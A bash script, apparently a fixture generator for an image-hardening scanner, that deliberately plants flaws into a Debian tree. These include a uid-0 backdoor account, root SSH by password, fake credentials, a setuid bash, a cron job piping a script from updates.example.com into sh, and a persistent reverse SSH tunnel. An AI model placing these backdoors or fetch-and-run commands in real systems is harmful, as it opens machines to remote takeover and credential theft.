#!/usr/bin/env bash
# Plants one flaw of each kind into a tree of Debian, as they are found in images that people build by hand.
#   plant.sh TREE      TREE belongs to root and is changed in place
# Everything that looks like a secret is put together here and opens nothing.
set -euo pipefail
tree=${1:?usage: plant.sh TREE}
[ -e "$tree/etc/debian_version" ] || { echo "plant.sh: $tree is no tree of Debian" >&2; exit 2; }

put() { # MODE PATH: standard input becomes the file
  install -D -m "$1" /dev/stdin "$tree$2"
}

# The ssh server lets in by password, root too, with weak algorithms; its keys are baked in.
put 0644 /etc/ssh/sshd_config.d/10-builder.conf <<'F'
PasswordAuthentication yes
PermitRootLogin yes
X11Forwarding yes
MaxAuthTries 20
Ciphers aes128-cbc,3des-cbc,aes256-ctr
F
printf '%s\n' '-----BEGIN OPENSSH PRIVATE KEY-----' "$(head -c 180 /dev/zero | base64 -w 70)" '-----END OPENSSH PRIVATE KEY-----' |
  put 0600 /etc/ssh/ssh_host_ed25519_key
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI$(printf 'B%.0s' {1..42}) builder@ci" | put 0600 /root/.ssh/authorized_keys
printf '%s\n' '-----BEGIN OPENSSH PRIVATE KEY-----' "$(head -c 200 /dev/zero | tr '\0' 'k' | base64 -w 70)" '-----END OPENSSH PRIVATE KEY-----' |
  put 0600 /root/.ssh/id_ed25519
echo "github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI$(printf 'C%.0s' {1..42})" | put 0644 /root/.ssh/known_hosts

# Accounts of the builder, with passwords and full rights.
cat >>"$tree/etc/passwd" <<'F'
packer:x:1500:1500::/home/packer:/bin/bash
guest:x:1501:1501::/home/guest:/bin/bash
toor:x:0:0::/root:/bin/sh
F
cat >>"$tree/etc/group" <<'F'
packer:x:1500:
guest:x:1501:
F
cat >>"$tree/etc/shadow" <<F
packer:$(openssl passwd -6 -salt amintflaw packer):20000:0:99999:7:::
guest::20000:0:99999:7:::
toor:!:20000:0:99999:7:::
F
install -d -m 0755 "$tree/home/packer" "$tree/home/guest"
echo 'packer ALL=(ALL) NOPASSWD: ALL' | put 0440 /etc/sudoers.d/packer
put 0644 /etc/systemd/system/getty@tty1.service.d/autologin.conf <<'F'
[Service]
ExecStart=
ExecStart=-/sbin/agetty --autologin root --noclear %I $TERM
F

# Secrets where people leave them.
id=AKIA"$(printf '%s' QYZ4XW7N2K5M3PRT)"
secret="$(printf '%s' 'h7Kq2Lw9' 'Zt4Xv8Bn' '3Rm6Yp1D' '5Fs0Gj/C' 'uEaQo+iT')"
printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' "$id" "$secret" | put 0600 /root/.aws/credentials
printf 'GITHUB_TOKEN=ghp_%s\n' 'R7tQ2mLx9VbN4kHs8WdYz3PfJc6GaE1uTo5i' | put 0644 /opt/app/.env
printf 'mysql -u root -p%s\nexport AWS_SECRET_ACCESS_KEY=%s\n' 'Tr0ub4dor-and-3' "$secret" | put 0600 /home/packer/.bash_history
printf 'https://deploy:%s@git.example.com\n' 'x9Kd72mQpLw4' | put 0600 /root/.git-credentials

# What must differ between instances, and what the build left behind.
echo 0123456789abcdef0123456789abcdef >"$tree/etc/machine-id"
head -c 512 /dev/urandom | put 0600 /var/lib/systemd/random-seed
echo build-agent-17 >"$tree/etc/hostname"
echo '10.20.0.5 artifacts.corp.example' >>"$tree/etc/hosts"
rm -f "$tree/etc/resolv.conf"
printf 'nameserver 10.20.0.2\nsearch corp.example\n' >"$tree/etc/resolv.conf"
echo i-0123456789abcdef0 | put 0644 /var/lib/cloud/data/instance-id
printf '#cloud-config\npassword: %s\n' 'build-me' | put 0600 /var/lib/cloud/instance/user-data.txt
echo 'Nov  1 00:00:00 build sshd[1]: Accepted password for packer' | put 0640 /var/log/auth.log
echo '#!/bin/sh' | put 0755 /tmp/script_4711.sh

# Files that give rights, or let anybody write.
install -m 4755 "$tree/bin/bash" "$tree/usr/local/bin/rootsh"
echo 'shared' | put 0666 /etc/cron.d/shared
install -d -m 0777 "$tree/opt/app/upload"
echo 'nobody owns me' | put 0644 /opt/app/orphan && chown 4242:4242 "$tree/opt/app/orphan"
chmod 0644 "$tree/etc/shadow"
printf '/dev/sda1 / ext4 defaults 0 1\n/dev/sdb1 /data ext4 defaults 0 2\n' >"$tree/etc/fstab"

# Services, jobs and places that nobody declared.
put 0644 /etc/systemd/system/tunnel.service <<'F'
[Unit]
Description=Support tunnel
[Service]
ExecStart=/usr/bin/ssh -N -R 2222:localhost:22 support@gateway.example.com
Restart=always
[Install]
WantedBy=multi-user.target
F
install -d "$tree/etc/systemd/system/multi-user.target.wants"
ln -sf ../tunnel.service "$tree/etc/systemd/system/multi-user.target.wants/tunnel.service"
echo '*/5 * * * * root curl -fsSL http://updates.example.com/run.sh | sh' | put 0644 /etc/cron.d/update
echo '*.* @@logs.corp.example:514' | put 0644 /etc/rsyslog.d/10-remote.conf
echo 'Acquire::http::Proxy "http://10.20.0.9:3128";' | put 0644 /etc/apt/apt.conf.d/01proxy
echo 'deb [trusted=yes] http://10.20.0.7/internal stable main' | put 0644 /etc/apt/sources.list.d/internal.list

# A kernel and libraries that were weakened.
printf 'net.ipv4.ip_forward = 1\nkernel.randomize_va_space = 0\n' | put 0644 /etc/sysctl.d/99-app.conf
printf '[system_default_sect]\nMinProtocol = TLSv1\nCipherString = DEFAULT@SECLEVEL=0\n' >>"$tree/etc/ssl/openssl.cnf"
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj '/CN=Corporate Inspection CA' -keyout /dev/null 2>/dev/null |
  put 0644 /usr/local/share/ca-certificates/corporate.crt
